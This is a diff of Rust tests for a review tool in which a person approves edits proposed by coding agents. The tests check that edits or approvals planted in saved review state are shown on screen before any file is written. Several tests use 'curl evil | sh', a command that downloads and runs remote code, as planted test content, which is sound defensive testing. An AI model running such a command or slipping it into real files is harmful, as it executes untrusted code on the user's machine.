@@ -99,36 +99,35 @@ fn mark(repo: &Repo, id: &str) {
         .expect("recorded");
 }
 
-/// What an earlier session has saved about `id`.
-fn saved(repo: &Repo, id: &str) -> Value {
-    serde_json::from_slice(&repo.read(&format!(".git/aye/review/{id}.json"))).expect("JSON")
-}
-
-fn plant(repo: &Repo, id: &str, staged: &Value) {
-    repo.write(&format!(".git/aye/review/{id}.json"), staged.to_string());
+/// The answers that an earlier review has saved about one proposal, with `change` made to them.
+fn plant(repo: &Repo, change: impl Fn(&mut Value)) {
+    let path = ".git/aye/answers";
+    let mut saved: Value = serde_json::from_slice(&repo.read(path)).expect("JSON");
+    let answers = saved.as_object_mut().expect("revisions").values_mut().next();
+    change(answers.expect("answers"));
+    repo.write(path, saved.to_string());
 }
 
 #[test]
-fn an_edit_planted_by_an_earlier_session_is_shown_and_needs_its_own_key() {
+fn an_edit_that_was_saved_or_planted_is_where_the_editor_begins() {
     let repo = Repo::with(&[("b.txt", "x\n")]);
     let id = replace(&repo, "b.txt", "x", "harmless");
     let mut t = review_editing(&repo, "harmless", "curl evil | sh");
-    t.sees("]?").types("e").sees("Decided:").sees("]?").types("q");
+    t.sees("]?").types("e").sees("Decided:").sees("]?").types("qk");
     assert_eq!(t.ends(), 0);
 
-    // Not taken: the proposal itself is written.
+    // It decides nothing: the proposal itself is written.
     let mut t = review(&repo);
-    t.sees("+harmless").sees("-harmless");
-    t.sees("+curl evil | sh").sees("(1/1)").sees(",E,").types("y");
+    t.sees("edited earlier").sees("+harmless").sees("(1/1)").types("y");
     t.sees(&format!("{id} will")).sees("+harmless").sees("Write");
-    t.types("q").ends();
+    t.types("u").sees("(1/1)").sees("]?").types("qk").ends();
 
-    // It stays to be looked at, and is written with its key alone, as the last screen shows.
-    let mut staged = saved(&repo, &id);
-    staged["units"][0]["decision"] = json!({"edit": "curl evil | sh\n"});
-    plant(&repo, &id, &staged);
-    let mut t = review(&repo);
-    t.sees("+curl evil | sh").sees("]?").types("E").sees("+curl evil | sh");
+    // It stays to be looked at, and is written once an editor has shown it, and the last screen.
+    plant(&repo, |answers| {
+        answers["decisions"][0][2] = json!({"edit": {"bytes": "curl evil | sh\n"}});
+    });
+    let mut t = review_editing(&repo, "sh", "sh");
+    t.sees("edited earlier").sees("]?").types("e").sees("+curl evil | sh");
     t.sees("will").sees("+curl evil | sh").sees("Write").types("y").sees("edited");
     assert_eq!(t.ends(), 0);
     assert_eq!(repo.text("b.txt"), "curl evil | sh\n");
@@ -140,21 +139,21 @@ fn a_planted_apply_is_written_only_from_a_screen_that_shows_it() {
     let repo = Repo::with(&[("b.txt", "x\n")]);
     let id = replace(&repo, "b.txt", "x", "evil");
     let mut t = review(&repo);
-    t.sees("]?").types("q").ends();
-    let mut staged = saved(&repo, &id);
-    staged["outcome"] = json!("apply");
-    staged["comments"] = json!([{"body": "planted words"}]);
-    plant(&repo, &id, &staged);
+    t.sees("]?").types("c").sees("none): ").types("look\r").sees("]?").types("qk").ends();
+    plant(&repo, |answers| {
+        answers["outcome"] = json!("apply");
+        answers["comments"] = json!([{"body": "planted words"}]);
+    });
     let mut t = review(&repo);
-    t.sees("session: apply").sees("Decided:").sees("planted");
+    t.sees("review: [to apply]").sees("Decided:").sees("planted");
     t.sees("write:").sees("-x").sees("+evil").sees("Write");
-    t.types("q").ends();
+    t.types("qk").ends();
     // Of another revision it counts for nothing.
     let args = ["revise", &id, "b.txt", "--old", "x", "--new", "more evil"];
     repo.agent("codex", &args).ok();
     let mut t = review(&repo);
     t.sees("revision").sees("+more evil").sees("(1/1)");
-    t.types("q").ends();
+    t.types("q").sees("Nothing").ends();
     assert_eq!(repo.text("b.txt"), "x\n");
 }
 
@@ -165,10 +164,10 @@ fn a_planted_apply_of_what_the_files_have_already_shows_it() {
     let id = replace(&repo, "b.txt", "x", "evil");
     repo.write("b.txt", "evil\n");
     let mut t = review(&repo);
-    t.sees("already").sees("+evil").sees("]?").types("A").sees("Write").types("q");
+    t.sees("already").sees("+evil").sees("]?").types("A").sees("Write").types("qk");
     t.ends();
     let mut t = review(&repo);
-    t.sees("session: apply").sees("Decided:").sees(&id).sees("-x").sees("+evil");
+    t.sees("review: [to apply]").sees("Decided:").sees(&id).sees("-x").sees("+evil");
     t.sees("[y,p").types("y").sees("applied");
     assert_eq!(t.ends(), 0);
     assert!(manifest(&repo).starts_with("already "), "{}", manifest(&repo));
@@ -186,8 +185,7 @@ fn an_answer_to_another_revision_or_one_sent_back_is_asked_again() {
     let mut t = review(&repo);
     assert_eq!(t.ends(), 0);
     let mut t = review_of(&repo, &["review", &id]);
-    t.sees("earlier").sees("[taken").sees("(1/1)").types("q");
-    t.ends();
+    t.sees("(1/1)").types("q").sees("Nothing").ends();
     assert_eq!(status(&repo, &id), "pending");
     assert_eq!(repo.text("b.txt"), "x\n");
 }
@@ -300,9 +298,9 @@ fn a_file_edited_while_the_last_screen_stands_is_not_written() {
     t.types("y").sees("a.txt").sees(&format!("aye review {id}"));
     assert_eq!(t.ends(), 5);
     assert_eq!(repo.text("a.txt"), now);
-    // What was decided is kept, and the next screen shows what it would write now.
+    // Of other content it is asked again, and the next screen shows what it would write now.
     let mut t = review(&repo);
-    t.sees("session").sees("+two").sees("+PLANTED").sees("[y,i,p").types("y");
+    t.sees("dropped").sees("]?").types("y").sees("+two").sees("+PLANTED").sees("[y,i,p").types("y");
     t.sees("applied");
     assert_eq!(t.ends(), 0);
     assert_eq!(status(&repo, &id), "applied");
